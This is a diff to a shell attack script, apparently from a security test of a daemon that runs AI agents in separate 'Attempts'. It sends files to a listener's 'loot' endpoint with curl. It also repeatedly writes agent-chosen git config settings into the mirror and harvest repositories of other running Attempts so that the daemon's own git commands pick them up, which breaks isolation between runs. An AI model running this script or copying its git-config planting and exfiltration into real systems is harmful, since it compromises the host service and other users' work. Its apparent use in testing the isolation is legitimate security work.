@@ -12,13 +12,13 @@ send() { curl -s -m 3 --data-binary "@$1" "$LISTENER/loot/$attack" >/dev/null 2>
 # Every git directory of the Worker root an agent running as the daemon's user can write: the mirrors and the
 # harvest repositories of Attempts running now.
 others() { for g in "$WORKER_ROOT"/mirrors/*.git "$WORKER_ROOT"/harvest/*.git; do [ -f "$g/config" ] && echo "$g"; done; }
-# `plant key value…`: the settings in the agent's own clone, and again and again for a few seconds in every other
-# git directory it can find, so a daemon git command there in the meantime reads them.
+# `plant key value…`: the settings in the agent's own clone, and, for three seconds, again and again in every other
+# git directory it can find, so that a daemon git command there in the meantime reads them.
 plant() {
   while [ $# -ge 2 ]; do git config "$1" "$2"; printf '%s\n%s\n' "$1" "$2" >>"$here/.git/planted"; shift 2; done
   echo "planting in $(others | wc -l) other git directories"
   n=0
-  while [ $n -lt 30 ]; do
+  while [ -n "$(others)" ] && [ $n -lt 15 ]; do
     for g in $(others); do
       while IFS= read -r key && IFS= read -r value; do
         git config --file "$g/config" --replace-all "$key" "$value" 2>/dev/null || true
